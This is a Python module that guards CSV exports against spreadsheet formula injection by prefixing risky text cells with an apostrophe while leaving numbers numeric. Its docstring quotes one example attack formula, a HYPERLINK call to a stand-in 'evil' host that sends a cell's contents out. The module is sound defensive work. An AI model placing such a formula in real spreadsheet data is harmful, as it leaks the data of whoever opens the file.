"""CSV that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and, after they strip
it, a tab or carriage return) as a formula: a token, a class name or an annotator name such as
`=HYPERLINK("http://evil/?"&A1,"x")` would run when the export is opened, and so would `  =...` or a line
break before the `=`, which they trim first. Every CSV the tool writes goes through `safe_cell` (OWASP's advice): such a text cell gets a leading apostrophe, which spreadsheets show as
text and do not evaluate. Numbers stay numbers: ints and floats pass as they are, and so does a text cell
that is a plain number (`-0.25`, `+1e-3`, `-inf`), so a column of negative scores still reads as numeric.

    writer = csv.writer(out); writer.writerow(safe_row(row))
    text = frame_to_csv(frame)          # instead of frame.to_csv(index=False)
"""
from __future__ import annotations

import re
from collections.abc import Iterable

import pandas as pd

FORMULA_CHARS = ("=", "+", "-", "@")
# a tab or carriage return is stripped by a spreadsheet, which then reads what follows as it would the cell
FORMULA_STARTS = (*FORMULA_CHARS, "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?|inf|infinity|nan)", re.IGNORECASE)


def safe_cell(value):
    """`value` as it may go into a CSV cell: a string a spreadsheet would run as a formula gets a leading `'`:
    one that starts with = + - @, a tab or a carriage return, or with any run of whitespace (spaces, line breaks)
    before = + - @ (spreadsheets trim it on import). Anything else (numbers, None, a string that is a plain
    number) is returned unchanged."""
    if not isinstance(value, str) or _NUMBER.fullmatch(value):
        return value
    if value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_CHARS):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(v) for v in row]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell and column name passed through `safe_cell`; numeric columns keep their dtype."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_datetime64_any_dtype(out[column])):
            out[column] = out[column].map(safe_cell)
    return out.rename(columns=lambda c: safe_cell(c) if isinstance(c, str) else c)


def frame_to_csv(frame: pd.DataFrame, **to_csv_args) -> str:
    """`frame.to_csv(index=False)` with `safe_frame` applied (keyword arguments go to `DataFrame.to_csv`)."""
    to_csv_args.setdefault("index", False)
    return safe_frame(frame).to_csv(**to_csv_args)
